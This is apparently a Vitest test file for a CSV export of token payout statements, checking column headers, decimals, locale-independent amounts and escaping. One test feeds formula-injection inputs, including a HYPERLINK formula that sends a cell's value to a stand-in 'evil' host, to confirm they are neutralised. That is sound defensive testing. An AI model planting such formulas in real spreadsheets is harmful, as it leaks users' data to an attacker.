import { afterAll, expect, it, vi } from 'vitest';
import type { PaymentLine } from './statement-csv.ts';

// The formats of money read the browser's language when they are loaded.
vi.stubGlobal('navigator', { language: 'de-DE' });
const { statementCsv } = await import('./statement-csv.ts');
afterAll(() => void vi.unstubAllGlobals());

const LINE: PaymentLine = {
  ...{ kind: 'PAYOUT', period: '2027-Q1', paidAt: '2027-04-02T10:00:00Z', units: '60' },
  ...{ grossShare: '1234500000', fee: '1', net: '1234499999', claimed: '0', open: null },
};
const rowOf = (line: PaymentLine, token: { symbol: string | null; decimals: number | null }, isCurve = false) =>
  statementCsv([line], { token, isCurve }).split('\r\n')[1]?.split(',').slice(3);

it('names each column, those of base units too', () => {
  const [head] = statementCsv([], { token: { symbol: 'tUSD', decimals: 6 }, isCurve: false }).split('\r\n');
  expect(head).toBe(
    'kind,period,paidAt,units,currency,grossShare,fee,net,claimed,open,' +
      'grossShareBaseUnits,feeBaseUnits,netBaseUnits,claimedBaseUnits,openBaseUnits',
  );
});

it.each([
  [
    'amounts in units of the token, with a point in every language',
    { symbol: 'tUSD', decimals: 6 },
    ['60', 'tUSD', '1234.500000', '0.000001', '1234.499999', '0.000000', '', '1234500000', '1', '1234499999', '0', ''],
  ],
  [
    'whole amounts of a token without decimals',
    { symbol: 'T', decimals: 0 },
    ['60', 'T', '1234500000', '1', '1234499999', '0', '', '1234500000', '1', '1234499999', '0', ''],
  ],
  [
    'base units alone while the token is unknown',
    { symbol: null, decimals: null },
    ['60', '', '', '', '', '', '', '1234500000', '1', '1234499999', '0', ''],
  ],
] as const)('has %s', (_what, token, cells) => {
  expect(rowOf(LINE, token)).toEqual(cells);
});

it('has units of a curve in units, not in millionths', () => {
  expect(rowOf({ ...LINE, units: '1500000' }, { symbol: 'T', decimals: 0 }, true)?.[0]).toBe('1.500000');
});

it.each([
  ['=1+1', "'=1+1"],
  ['a"b', '"a""b"'],
])('has the symbol %s of a token as a text that no spreadsheet computes', (symbol, cell) => {
  expect(rowOf(LINE, { symbol, decimals: 0 })?.[1]).toBe(cell);
});

it.each(['=HYPERLINK("http://evil/?"&A1)', '+cmd', '-1+1', '@x', '\t=1', ' =1', '＝1+1', '-1 ', '\r=1'])(
  'has %j as a text in every column that a gateway fills',
  (lie) => {
    const line = { ...LINE, kind: lie, period: lie, paidAt: lie } as PaymentLine;
    const raw = { grossShare: lie, fee: lie, net: lie, claimed: lie, open: lie };
    const cell = /[",\r]/.test(lie) ? `"'${lie.replaceAll('"', '""')}"` : `'${lie}`;
    const text = statementCsv([{ ...line, ...raw }], { token: { symbol: lie, decimals: null }, isCurve: false });
    const [, row] = text.split('\r\n');
    expect(row).toBe([...[cell, cell, cell, '60', cell], ...Array(5).fill(''), ...Array(5).fill(cell)].join(','));
  },
);

it('has a negative amount as a number', () => {
  const [units, , gross] = rowOf({ ...LINE, grossShare: '-15' }, { symbol: 'T', decimals: 1 }) ?? [];
  expect([units, gross]).toEqual(['60', '-1.5']);
});
